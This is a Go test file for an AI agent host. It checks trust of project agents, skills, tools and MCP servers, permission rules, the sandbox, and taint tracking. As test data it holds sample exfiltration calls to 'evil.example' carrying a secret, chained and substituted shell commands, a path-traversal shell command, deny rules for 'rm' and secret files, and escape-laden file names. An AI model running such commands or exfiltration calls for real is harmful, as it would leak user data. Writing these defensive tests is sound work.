package host

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"go.uber.org/goleak"

	"github.com/superstep-dev/superstep/internal/catalog"
	"github.com/superstep-dev/superstep/internal/catalog/trust"
	"github.com/superstep-dev/superstep/internal/npm"
	"github.com/superstep-dev/superstep/internal/offline"
	"github.com/superstep-dev/superstep/model"
	"github.com/superstep-dev/superstep/tool"
	"github.com/superstep-dev/superstep/tool/permit"
)

func TestMain(m *testing.M) {
	if os.Getenv("PROJECT_TEST_SERVER") != "" {
		serve()
		return
	}
	goleak.VerifyTestMain(m)
}

// place is a project and a home beside it.
type place struct {
	dir, home string
	opt       Config

	mu      sync.Mutex
	notices []string
}

func newPlace(t *testing.T, files map[string]string) *place {
	t.Helper()
	root := t.TempDir()
	p := &place{dir: filepath.Join(root, "project"), home: filepath.Join(root, "home")}
	if err := os.MkdirAll(p.dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for name, text := range files {
		p.write(t, name, text)
	}
	p.opt = Config{Dir: p.dir, Env: atHome(p.home), Environ: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + p.home}}
	p.opt.Notice = func(s string) {
		p.mu.Lock()
		defer p.mu.Unlock()
		p.notices = append(p.notices, s)
	}
	return p
}

// atHome is the environment of a user of a home.
func atHome(home string) func(string) string {
	return func(name string) string {
		return map[string]string{
			"HOME": home, "XDG_CONFIG_HOME": filepath.Join(home, ".config"), "XDG_DATA_HOME": filepath.Join(home, ".local", "share"),
			"XDG_CACHE_HOME": filepath.Join(home, ".cache"),
		}[name]
	}
}

// openProject opens the project of a folder with a model that needs no key.
func openProject(cfg *Config) (*project, error) {
	h, err := Open(context.Background(), cfg)
	if err != nil {
		return nil, err
	}
	p, err := h.projectIn(cfg.Dir)
	if err == nil {
		p.models = func(string) (model.Model, error) { return offline.New(), nil }
	}
	return p, err
}

// write writes a file of the project, or with "~/" of the home.
func (p *place) write(t *testing.T, name, text string) {
	t.Helper()
	path := filepath.Join(p.dir, filepath.FromSlash(name))
	if rest, ok := strings.CutPrefix(name, "~/"); ok {
		path = filepath.Join(p.home, filepath.FromSlash(rest))
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func (p *place) open(t *testing.T) *project {
	t.Helper()
	opened, err := openProject(&p.opt)
	if err != nil {
		t.Fatal(err)
	}
	return opened
}

func (p *place) noticed(text string) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	return slices.ContainsFunc(p.notices, func(n string) bool { return strings.Contains(n, text) })
}

// trustAll agrees to everything there is.
func trustAll(t *testing.T, p *project) {
	t.Helper()
	var items []trust.Item
	for _, s := range p.Items() {
		items = append(items, s.Item)
	}
	if err := p.Trust(items); err != nil {
		t.Fatal(err)
	}
}

const explorer = "---\nname: explorer\ndescription: Mine.\ntools: Read\n---\nYou are mine.\n"

// What nobody trusted is listed and not used; what is trusted is; what changed is not, until
// somebody agrees again; and what is revoked is not.
func TestTrust(t *testing.T) {
	w := newPlace(t, map[string]string{".claude/agents/explorer.md": explorer})
	p := w.open(t)
	find := func(p *project) string {
		t.Helper()
		d, err := p.Agent("explorer")
		if err != nil {
			t.Fatal(err)
		}
		return d.Source.Scope
	}
	state := func(p *project) catalog.State {
		for _, e := range p.Agents() {
			if e.Name == "explorer" {
				return e.State
			}
		}
		return ""
	}
	if got := find(p); got != "built-in" || state(p) != catalog.Untrusted || p.Hidden("explorer") == nil {
		t.Errorf("before: %s, %s, %q", got, state(p), w.notices)
	}
	trustAll(t, p)
	if got := find(p); got != "project" || state(p) != catalog.Usable {
		t.Errorf("trusted: %s, %s", got, state(p))
	}
	if p = w.open(t); find(p) != "project" {
		t.Error("it does not last")
	}
	w.write(t, ".claude/agents/explorer.md", explorer+"And evil.\n")
	if p = w.open(t); find(p) != "built-in" || state(p) != catalog.Changed {
		t.Errorf("changed: %s, %s", find(p), state(p))
	}
	if s := p.Items()[0]; s.State != trust.Changed || s.Old == s.Item.Digest {
		t.Errorf("%+v", s)
	}
	trustAll(t, p)
	if err := p.Revoke("explorer"); err != nil || find(p) != "built-in" {
		t.Errorf("revoked: %v, %s", err, find(p))
	}
	// What is trusted in one project says nothing about another with the same file.
	trustAll(t, p)
	other := newPlace(t, map[string]string{".claude/agents/explorer.md": explorer + "And evil.\n"})
	other.opt.Env = atHome(w.home)
	if got := find(other.open(t)); got != "built-in" {
		t.Errorf("another project: %s", got)
	}
	w.opt.TrustProject = true
	if err := p.Revoke(); err != nil {
		t.Fatal(err)
	}
	if p = w.open(t); find(p) != "project" {
		t.Error("TrustProject does not trust")
	}
	w.opt.TrustProject = false
	if p = w.open(t); find(p) != "built-in" {
		t.Error("TrustProject left something behind")
	}
}

// An agent that only the project has is refused by an error that says why.
func TestUntrustedError(t *testing.T) {
	w := newPlace(t, map[string]string{".claude/agents/mine.md": strings.Replace(explorer, "explorer", "mine", 1)})
	_, err := w.open(t).Agent("mine")
	var wary *catalog.UntrustedError
	if !errors.As(err, &wary) || wary.Name != "mine" || wary.FailureCode() != "untrusted" {
		t.Errorf("got %v", err)
	}
}

// A tool that nobody has trusted is said to be there.
func TestUnknownTool(t *testing.T) {
	w := newPlace(t, map[string]string{".superstep/tools/count.tool.yaml": "description: Count\ncommand: [echo, hi]\n"})
	unknown := func(name string) string {
		s, err := w.open(t).start(t.Context(), "", nil)
		if err != nil {
			t.Fatal(err)
		}
		defer s.Close()
		return s.unknown(name)
	}
	for _, c := range []struct{ name, want string }{
		{"count", "tool count (.superstep/tools/count.tool.yaml) is not trusted; look at it and decide: superstep trust"},
		{"red_file", `there is no tool "red_file"; did you mean "read_file"?`},
	} {
		if got := unknown(c.name); got != c.want {
			t.Errorf("%s: %s", c.name, got)
		}
	}
	trustAll(t, w.open(t))
	w.write(t, ".superstep/tools/count.tool.yaml", "description: Count\ncommand: [echo, evil]\n")
	if got, want := unknown("count"), "tool count (.superstep/tools/count.tool.yaml) changed since it was trusted; look at it and decide: superstep trust"; got != want {
		t.Error(got)
	}
}

// What a project has hides nothing of the user's before somebody trusted it.
func TestUntrustedHidesNothing(t *testing.T) {
	w := newPlace(t, map[string]string{
		"~/.claude/skills/s/SKILL.md": "---\nname: s\ndescription: Mine.\n---\nDo mine.\n",
		".claude/skills/s/SKILL.md":   "---\nname: s\ndescription: Theirs.\n---\nDo theirs.\n",
	})
	use := func() string {
		s, err := w.open(t).start(t.Context(), "", nil)
		if err != nil {
			t.Fatal(err)
		}
		defer s.Close()
		return s.Tools().Call(t.Context(), "skill", &tool.Call{Args: json.RawMessage(`{"name":"s"}`)}).Text
	}
	if got := use(); !strings.Contains(got, "Do mine.") {
		t.Errorf("before: %s", got)
	}
	trustAll(t, w.open(t))
	if got := use(); !strings.Contains(got, "Do theirs.") {
		t.Errorf("trusted: %s", got)
	}
}

// The home is no project of its own, so that what is the user's is not taken for somebody else's.
func TestHomeIsNoProject(t *testing.T) {
	w := newPlace(t, map[string]string{"~/.claude/agents/mine.md": strings.Replace(explorer, "explorer", "mine", 1)})
	w.opt.Dir = w.home
	p := w.open(t)
	if d, err := p.Agent("mine"); err != nil || d.Source.Scope != "user" || len(p.Items()) != 0 {
		t.Errorf("got %v, %v, %v", d, err, p.Items())
	}
	for dir, want := range map[string]string{
		w.dir:                             w.dir,
		filepath.Join(w.home, "a", "b"):   filepath.Join(w.home, "a", "b"),
		filepath.Join(w.dir, "x", "y"):    w.dir,
		filepath.Join(w.dir, ".git", "y"): w.dir,
	} {
		if err := os.MkdirAll(filepath.Join(w.dir, ".superstep"), 0o700); err != nil {
			t.Fatal(err)
		}
		if got := rootOf(dir, w.home); got != want {
			t.Errorf("the root of %s is %s, want %s", dir, got, want)
		}
	}
}

// What lies in /tmp has nothing to do with what somebody put beside it.
func TestRootInSharedFolder(t *testing.T) {
	shared := t.TempDir()
	below := filepath.Join(shared, "x", "y")
	for _, dir := range []string{below, filepath.Join(shared, ".claude")} {
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if got := rootOf(below, ""); got != shared {
		t.Errorf("the root is %s, want %s", got, shared)
	}
	if err := os.Chmod(shared, 0o777|os.ModeSticky); err != nil {
		t.Fatal(err)
	}
	if got := rootOf(below, ""); got != below {
		t.Errorf("below a shared folder the root is %s, want %s", got, below)
	}
	if got := rootOf(shared, ""); got != shared {
		t.Errorf("the root of the shared folder is %s", got)
	}
}

// A project can make rules stricter, and say which model; only once it is trusted, and never what
// a user has not allowed. Mistakes are told by line and column.
func TestSettings(t *testing.T) {
	w := newPlace(t, map[string]string{
		".superstep/config.yaml":                   "model: openai/project\npermissions:\n  allow: [write_file]\n  deny: [\"read_file(secret/**)\"]\n",
		"~/.config/superstep/permissions.yaml":     "allow: [\"edit_file(docs/**)\"]\n",
		"~/.config/superstep/agents/unrelated.txt": "x",
	})
	decide := func(p *project, name, args string) tool.Decision {
		t.Helper()
		s, err := p.start(context.Background(), "", nil)
		if err != nil {
			t.Fatal(err)
		}
		defer s.Close()
		found, ok := s.Tools().Get(name)
		if !ok {
			t.Fatalf("no tool %s", name)
		}
		return s.Tools().Guard().Gate.Check(found, &tool.Call{Args: json.RawMessage(args)}).Decision
	}
	p := w.open(t)
	if p.projectModel() != "" || decide(p, "read_file", `{"path":"secret/a"}`) != tool.Allow {
		t.Errorf("before it is trusted: %q", p.projectModel())
	}
	trustAll(t, p)
	for _, c := range []struct {
		name, args string
		want       tool.Decision
	}{
		{"read_file", `{"path":"secret/a"}`, tool.Deny},
		{"read_file", `{"path":"a"}`, tool.Allow},
		{"write_file", `{"path":"a","content":""}`, tool.Ask},
		{"edit_file", `{"path":"docs/a","edits":[]}`, tool.Allow},
		{"write_file", `{"path":".superstep/tools/x.ts","content":""}`, tool.Deny},
	} {
		if got := decide(p, c.name, c.args); got != c.want {
			t.Errorf("%s %s: %s, want %s", c.name, c.args, got, c.want)
		}
	}
	if p.projectModel() != "openai/project" {
		t.Errorf("model %q", p.projectModel())
	}
	w.write(t, ".superstep/config.yaml", "modle: x\npermissions:\n  allow: bash\n  dney: []\n  ask: [\"bash(\"]\n")
	p = w.open(t)
	var got []string
	for _, x := range p.problems() {
		got = append(got, strings.TrimPrefix(x.Where(), w.dir)+" "+x.Text)
	}
	text := strings.Join(got, "\n")
	for _, want := range []string{"config.yaml:1:1 unknown setting \"modle\"", "did you mean \"model\"", ":3:10 allow: want a list", ":4:3 unknown list \"dney\"", ":5:9 "} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in:\n%s", want, text)
		}
	}
	w.write(t, ".superstep/config.yml", "permissions:\n  deny: [bash]\n")
	if p := w.open(t); len(p.problems()) == 0 || !strings.HasSuffix(p.problems()[0].String(), ".superstep/config.yml: is not read; name it config.yaml") {
		t.Error("a file of another name:", p.problems())
	}
	w.write(t, "~/.config/superstep/permissions.yml", "deny: [bash]\n")
	if _, err := openProject(&w.opt); err == nil || !strings.Contains(err.Error(), "permissions.yml: is not read; name it permissions.yaml") {
		t.Errorf("a user's rules of another name: %v", err)
	}
	if err := os.Remove(filepath.Join(w.home, ".config", "superstep", "permissions.yml")); err != nil {
		t.Fatal(err)
	}
	w.write(t, "~/.config/superstep/permissions.yaml", "deny: [bash\n")
	if _, err := openProject(&w.opt); err == nil || !strings.Contains(err.Error(), "permissions.yaml:1:") {
		t.Errorf("a user's rules with a mistake: %v", err)
	}
	deep := strings.Repeat("[", 100_000)
	w.write(t, "~/.config/superstep/permissions.yaml", "")
	w.write(t, ".superstep/config.yaml", "permissions: {allow: "+deep+"}\n")
	if p := w.open(t); len(p.problems()) == 0 {
		t.Error("brackets without end are no problem")
	}
}

// An agent that goes round and round is stopped, also if nobody has set a limit.
func TestLimitsByDefault(t *testing.T) {
	s, err := newPlace(t, nil).open(t).start(t.Context(), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for _, name := range []string{"general-purpose", "worker"} {
		a, err := s.Agent(name, "")
		if err != nil {
			t.Fatal(err)
		}
		if a.Limits.Turns < 1 || a.Limits.Turns > 100 {
			t.Errorf("%s has %d turns", name, a.Limits.Turns)
		}
	}
}

// Somebody who lets commands run unasked that stay in the sandbox has given agents a shell by that.
func TestSandboxAuto(t *testing.T) {
	w := newPlace(t, map[string]string{"~/.config/superstep/permissions.yaml": "sandbox: {auto: true}\ndeny: [\"bash(rm *)\"]\n"})
	s, err := w.open(t).start(t.Context(), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	bash, ok := s.Tools().Get("bash")
	if !ok {
		t.Fatal("there is no bash")
	}
	want := tool.Allow
	if mode, err := s.p.h.sandboxMode(); err != nil || strings.HasPrefix(mode, "none") {
		t.Logf("SKIPPED in part: %s %v", mode, err)
		want = tool.Ask
	}
	for command, want := range map[string]tool.Decision{"make x": want, "rm x": tool.Deny} {
		args, err := json.Marshal(map[string]string{"command": command})
		if err != nil {
			t.Fatal(err)
		}
		if v := s.Tools().Guard().Gate.Check(bash, &tool.Call{Args: args}); v.Decision != want {
			t.Errorf("%s: %+v, want %s", command, v, want)
		}
	}
}

// What is always allowed holds in this project, and can be taken back.
func TestAlways(t *testing.T) {
	w := newPlace(t, nil)
	p := w.open(t)
	has := func(p *project) bool {
		policy, err := p.policy()
		if err != nil {
			t.Fatal(err)
		}
		rules := policy.List()
		return slices.ContainsFunc(rules, func(r permit.Rule) bool { return r.Layer == permit.Granted && r.String() == "bash(go test *)" })
	}
	s, err := p.start(t.Context(), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	a, err := s.Agent("worker", "")
	if err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if err := a.Remember("bash(go test *)"); err != nil {
			t.Fatal(err)
		}
	}
	if !has(w.open(t)) {
		t.Error("it is not remembered")
	}
	other := newPlace(t, nil)
	other.opt.Env = atHome(w.home)
	if has(other.open(t)) {
		t.Error("it holds elsewhere")
	}
	if found, err := p.forgetRule("bash(go test *)"); err != nil || !found || has(w.open(t)) {
		t.Errorf("it is not forgotten: %v %v", found, err)
	}
	if found, err := p.forgetRule("bash(go test *)"); err != nil || found {
		t.Errorf("again: %v %v", found, err)
	}
}

// An agent has the tools of its definition, and may do with them what it says.
func TestAgentsTools(t *testing.T) {
	w := newPlace(t, map[string]string{
		".claude/agents/git.md":      "---\nname: git\ndescription: d\ntools: Read, Bash(git:*), Task(explorer)\n---\nP\n",
		".claude/agents/no.md":       "---\nname: no\ndescription: d\ndisallowedTools: Bash, Write, WebFetch\n---\nP\n",
		".superstep/agents/one.md":   "---\nname: one\ndescription: d\nkind: simple\n---\nP\n",
		".claude/skills/s/SKILL.md":  "---\nname: s\ndescription: A skill.\n---\nDo it.\n",
		".superstep/tools/read.ts":   "export default {description: 'r', args: {}, execute() { return 'x' }}\n",
		".superstep/tools/broken.ts": "export default {\n",
	})
	trustAll(t, w.open(t))
	w.opt.Rules = "ask bash"
	s, err := w.open(t).start(t.Context(), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	names := func(name string) (tools, actions []string) {
		a, err := s.Agent(name, "")
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range a.Actions {
			actions = append(actions, x.Tool.Name)
		}
		return a.Tools.Names(), actions
	}
	if tools, actions := names("git"); !slices.Equal(tools, []string{"read_file", "bash"}) || !slices.Equal(actions, []string{"task", "task_batch"}) {
		t.Errorf("git has %v and %v", tools, actions)
	}
	if tools, _ := names("no"); slices.Contains(tools, "bash") || slices.Contains(tools, "write_file") || !slices.Contains(tools, "edit_file") || !slices.Contains(tools, "skill") {
		t.Errorf("no has %v", tools)
	}
	if tools, actions := names("one"); len(tools)+len(actions) != 0 {
		t.Errorf("one has %v and %v", tools, actions)
	}
	a, err := s.Agent("git", "")
	if err != nil {
		t.Fatal(err)
	}
	bash, _ := s.Tools().Get("bash")
	for command, want := range map[string]tool.Decision{
		"git status": tool.Ask, "ls": tool.Deny, "git status; ls": tool.Deny, "git status $(ls)": tool.Deny,
	} {
		args, err := json.Marshal(map[string]string{"command": command})
		if err != nil {
			t.Fatal(err)
		}
		if v := a.Gate.Check(bash, &tool.Call{Args: args}); v.Decision != want {
			t.Errorf("%s: %+v, want %s", command, v, want)
		}
	}
	for _, action := range a.Actions {
		args := `{"agent":"worker","prompt":"x"}`
		if action.Tool.Name == "task_batch" {
			args = `{"tasks":[` + args + `]}`
		}
		if r, err := action.Run(t.Context(), nil, &tool.Call{Args: json.RawMessage(args)}); err != nil || !r.Error || !strings.Contains(r.Text, "may not have agent worker") {
			t.Errorf("%s: %+v, %v", action.Tool.Name, r, err)
		}
	}
	for other, refused := range map[string]bool{"worker": true, "general-purpose": true, "codebase-locator": false} {
		restricted, err := s.Agent("no", "")
		if err != nil {
			t.Fatal(err)
		}
		for _, action := range restricted.Actions {
			if action.Tool.Name != "task" {
				continue
			}
			r, err := action.Run(t.Context(), nil, &tool.Call{Args: json.RawMessage(`{"agent":"` + other + `","prompt":"x"}`)})
			if got := r.Error && strings.Contains(r.Text, "is taken from it"); err != nil || got != refused {
				t.Errorf("%s: refused %v, want %v: %+v, %v", other, got, refused, r, err)
			}
		}
	}
	no, err := s.Agent("no", "")
	if err != nil || !strings.Contains(no.Prompt, "A skill.") || strings.Contains(no.Prompt, "Do it.") {
		t.Errorf("the prompt: %v\n%s", err, no.Prompt)
	}
	if r := s.Tools().Call(t.Context(), "skill", &tool.Call{Args: json.RawMessage(`{"name":"s"}`)}); r.Error || !strings.Contains(r.Text, "Do it.") {
		t.Errorf("the skill: %+v", r)
	}
	w.write(t, ".claude/skills/s/SKILL.md", "---\nname: s\ndescription: A skill.\n---\nDo evil.\n")
	if r := s.Tools().Call(t.Context(), "skill", &tool.Call{Args: json.RawMessage(`{"name":"s"}`)}); !r.Error {
		t.Errorf("the skill changed, and was read: %+v", r)
	}
}

// A rule that somebody granted covers what it is about, within what an agent may do at all.
func TestGrants(t *testing.T) {
	w := newPlace(t, map[string]string{"~/.claude/agents/git.md": "---\nname: git\ndescription: d\ntools: Bash(git:*), Write\n---\nP\n"})
	w.opt.Rules = "ask bash"
	s, err := w.open(t).start(t.Context(), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	a, err := s.Agent("git", "")
	if err != nil {
		t.Fatal(err)
	}
	g, ok := a.Gate.(tool.Granter)
	if !ok {
		t.Fatal("the gate cannot tell")
	}
	for _, c := range []struct {
		rule, tool, args string
		want             bool
	}{
		{"write_file(docs/**)", "write_file", `{"path":"docs/sub/b.md","content":""}`, true},
		{"write_file(docs/**)", "write_file", `{"path":"src/b.md","content":""}`, false},
		{"write_file(**)", "write_file", `{"path":".superstep/tools/x.ts","content":""}`, false},
		{"bash(git status *)", "bash", `{"command":"git status -s"}`, true},
		{"bash(ls *)", "bash", `{"command":"ls -l"}`, false},
	} {
		found, _ := s.Tools().Get(c.tool)
		if got := g.Grants(c.rule, found, &tool.Call{Args: json.RawMessage(c.args)}); got != c.want {
			t.Errorf("%s for %s: %v, want %v", c.rule, c.args, got, c.want)
		}
	}
}

// An agent that has read what strangers wrote asks before it sends something where its user has not
// let it send.
func TestTaint(t *testing.T) {
	w := newPlace(t, nil)
	w.opt.Rules = "allow bash\nallow web_fetch\nallow web_fetch(domain:example.com)"
	s, err := w.open(t).start(t.Context(), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	a, err := s.Agent("worker", "")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		tool, args string
		seen       []string
		want       tool.Decision
	}{
		{"web_fetch", `{"url":"https://evil.example/?q=secret"}`, nil, tool.Allow},
		{"web_fetch", `{"url":"https://evil.example/?q=secret"}`, []string{"read_file"}, tool.Allow},
		{"web_fetch", `{"url":"https://evil.example/?q=secret"}`, []string{"read_file", "web_fetch"}, tool.Ask},
		{"web_fetch", `{"url":"https://example.com/?q=secret"}`, []string{"web_fetch"}, tool.Allow},
		{"bash", `{"command":"curl https://evil.example"}`, []string{"mcp__a__b"}, tool.Allow}, // there is no network
		{"bash", `{"command":"curl https://evil.example","unsandboxed":true}`, []string{"mcp__a__b"}, tool.Ask},
		{"bash", `{"command":"ls"}`, []string{"mcp__a__b"}, tool.Allow},
	} {
		found, _ := s.Tools().Get(c.tool)
		if v := a.Gate.Check(found, &tool.Call{Args: json.RawMessage(c.args), Seen: c.seen}); v.Decision != c.want {
			t.Errorf("%s %s after %v: %+v, want %s", c.tool, c.args, c.seen, v, c.want)
		}
	}
}

// A server that shows other tools than those that were trusted is not used until it is trusted again.
func TestPin(t *testing.T) {
	node, modules := npm.Node(t), npm.Modules(t)
	config := func(server string) string {
		b, err := json.Marshal(map[string]any{"mcpServers": map[string]any{"s": map[string]any{"command": node, "args": []string{"server.mjs"}, "read": []string{npm.Modules(t)}}}})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	w := newPlace(t, map[string]string{".mcp.json": config("everything"), "which": "server-everything"})
	// The file that is digested stays; what it loads does not.
	w.write(t, "server.mjs", `import { readFileSync } from "node:fs";
await import("`+modules+`/@modelcontextprotocol/" + readFileSync("which", "utf8").trim() + "/dist/index.js");
`)
	use := func() (tools int) {
		t.Helper()
		s, err := w.open(t).start(t.Context(), "", nil)
		if err != nil {
			t.Fatal(err)
		}
		defer s.Close()
		for _, name := range s.Tools().Names() {
			if strings.HasPrefix(name, "mcp__s__") {
				tools++
			}
		}
		return tools
	}
	if use() != 0 {
		t.Error("it was used untrusted")
	}
	trustAll(t, w.open(t))
	if use() == 0 {
		t.Fatalf("it is not used: %q", w.notices)
	}
	if use() == 0 {
		t.Errorf("the second time it is not used: %q", w.notices)
	}
	w.write(t, "which", "server-memory")
	if n := use(); n != 0 {
		t.Errorf("%d of its tools are used though they changed", n)
	}
	trustAll(t, w.open(t))
	if use() == 0 {
		t.Errorf("trusted again, and not used: %q", w.notices)
	}
	w.write(t, "server.mjs", "throw new Error('other')\n")
	if n := use(); n != 0 || !w.noticed("(1 changed since): mcp s") {
		t.Errorf("the file changed, and %d tools are used: %q", n, w.notices)
	}
}

// Names and files that nobody would write by accident break nothing else.
func TestHostileNames(t *testing.T) {
	w := newPlace(t, map[string]string{
		".claude/agents/a\x1b[31m.md":                        strings.Replace(explorer, "explorer", "\"x\\e[31my\"", 1),
		".claude/agents/" + strings.Repeat("a", 200) + ".md": strings.Replace(explorer, "explorer", strings.Repeat("a", 200), 1),
		".superstep/tools/a b\x1b.ts":                        "export default {}",
		".superstep/tools/x.tool.yaml":                       "description: d\ncommand: [../../../bin/sh]\n",
		".superstep/tools/y.tool.yaml":                       "[[[[[",
		".mcp.json":                                          `{"mcpServers":{"a b":{"command":"x"},"a":{"command":"x"},"a":{"command":"y"}}}`,
		".superstep/skills/\u202eevil/SKILL.md":              "---\nname: \u202eevil\ndescription: d\n---\nx\n",
		".superstep/config.yaml":                             "a: &a [x, x]\nb: *a\n",
		".claude/agents/ok.md":                               strings.Replace(explorer, "explorer", "ok", 1),
	})
	p := w.open(t)
	trustAll(t, p)
	if _, err := p.Agent("ok"); err != nil {
		t.Error(err)
	}
	for _, list := range [][]catalog.Item{p.Agents(), p.Skills()} {
		for _, e := range list {
			if strings.ContainsAny(e.Name+e.Description, "\x1b\u202e") {
				t.Errorf("%q", e.Name)
			}
		}
	}
	if len(p.problems()) < 3 {
		t.Errorf("%q", p.problems())
	}
	if s, err := p.start(t.Context(), "", nil); err != nil {
		t.Error(err)
	} else {
		_ = s.Close()
	}
}

// That an agent has no shell is said once a session, with what would give it one.
func TestNoticesOnce(t *testing.T) {
	t.Parallel()
	w := newPlace(t, map[string]string{"~/.config/superstep/agents/sheller.md": "---\nname: sheller\ndescription: d\ntools: [read_file, bash]\n---\nWork.\n"})
	w.write(t, "~/.claude/agents/sheller.md", "---\nname: sheller\ndescription: d\ntools: Read, Bash\n---\nWork.\n")
	s, err := w.open(t).start(t.Context(), "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for range 3 {
		if _, err := s.Agent("sheller", ""); err != nil {
			t.Fatal(err)
		}
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if text := strings.Join(w.notices, "\n"); strings.Count(text, "has no shell") != 1 || !strings.Contains(text, "(--ask bash)") {
		t.Errorf("%q", text)
	}
}
